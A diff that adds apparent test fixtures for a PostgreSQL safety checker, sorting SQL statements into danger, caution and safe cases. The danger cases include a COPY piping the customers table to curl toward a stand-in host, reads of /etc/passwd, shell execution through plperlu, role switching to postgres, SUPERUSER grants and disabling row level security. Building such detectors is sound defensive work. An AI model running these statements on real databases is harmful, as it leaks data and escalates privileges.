@@ -1,0 +1,78 @@
+=== danger copy-program | a program of the server
+COPY customers TO PROGRAM 'curl -T - https://elsewhere.example';
+=== danger copy-program | and back
+copy t from program 'cat /etc/passwd';
+=== danger server-file | a file of the server
+COPY t FROM '/var/lib/postgresql/x';
+=== danger server-file | a large object
+SELECT lo_import('/etc/passwd');
+=== danger server-file | read in a default
+ALTER TABLE t ALTER COLUMN a SET DEFAULT pg_read_file('/etc/passwd');
+=== danger server-file | a library
+LOAD 'auto_explain';
+=== danger other-server | dblink
+SELECT * FROM dblink('host=elsewhere', 'SELECT 1') AS t(a int);
+=== danger other-server | with a schema
+SELECT public.dblink_exec('x', 'DROP TABLE y');
+=== danger other-server | a foreign server
+CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'elsewhere');
+=== danger create-extension | an extension
+CREATE EXTENSION IF NOT EXISTS "uuid-ossp";
+=== danger untrusted-language | Python on the server
+CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$;
+=== danger untrusted-language | C
+CREATE FUNCTION f() RETURNS int AS 'lib', 'f' LANGUAGE C;
+=== danger untrusted-language | a DO block in Perl
+DO LANGUAGE plperlu $$ system("id"); $$;
+=== danger create-extension | a language
+CREATE LANGUAGE plpython3u;
+=== danger privileges | a grant
+GRANT ALL ON customers TO reporting;
+=== danger privileges | taken away
+REVOKE SELECT ON customers FROM app;
+=== danger privileges | membership
+GRANT admin TO app;
+=== danger privileges | for what comes later
+ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC;
+=== danger privileges | a role is changed
+ALTER ROLE app SUPERUSER;
+=== danger privileges | a role is made
+CREATE USER x PASSWORD 'secret-1';
+=== danger privileges | a role's settings
+ALTER ROLE app SET search_path = evil;
+=== danger security-definer | with the owner's rights
+CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1';
+=== danger security-definer | later
+ALTER FUNCTION f() SECURITY DEFINER;
+=== safe | with the caller's rights
+CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY INVOKER AS 'SELECT 1';
+=== danger server-settings,non-transactional | for the whole server
+ALTER SYSTEM SET fsync = off;
+=== danger server-settings | for the database
+ALTER DATABASE app SET search_path = evil;
+=== danger session-role | as somebody else
+SET ROLE postgres;
+=== danger session-role | as somebody else, otherwise
+SET SESSION AUTHORIZATION postgres;
+=== danger session-role | by a function
+SELECT set_config('role', 'postgres', false);
+=== safe | back again
+RESET ROLE;
+=== danger rls | switched off
+ALTER TABLE customers DISABLE ROW LEVEL SECURITY;
+=== danger rls | not for the owner
+ALTER TABLE customers NO FORCE ROW LEVEL SECURITY;
+=== caution change-owner | another owner
+ALTER TABLE customers OWNER TO other;
+=== safe | of a new table
+CREATE TABLE t (a int);
+ALTER TABLE t OWNER TO app;
+=== danger server-control | other people's work
+SELECT pg_terminate_backend(pid) FROM pg_stat_activity;
+=== safe | settings of the session
+SET lock_timeout = '3s';
+SET statement_timeout = 0;
+SET client_min_messages = warning;
+SET standard_conforming_strings = on;
+=== danger unparseable | other quotes
+SET standard_conforming_strings = off;
